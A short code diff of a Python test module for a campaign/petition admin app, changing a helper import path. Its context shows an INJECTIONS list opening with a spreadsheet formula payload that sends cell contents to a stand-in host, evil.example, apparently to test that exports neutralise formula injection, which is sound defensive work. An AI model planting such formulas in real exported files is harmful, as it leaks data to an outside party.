@@ -13,7 +13,7 @@ from campaign.extensions import db
 from campaign.models import AuditEvent, Signature, SignatureStatus
 from campaign.services import crypto, export
 from campaign.services.signers import SignerFilter
-from tests.admin.conftest import campaign_content, campaign_row, make_signature
+from tests.admin.helpers import campaign_content, campaign_row, make_signature
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
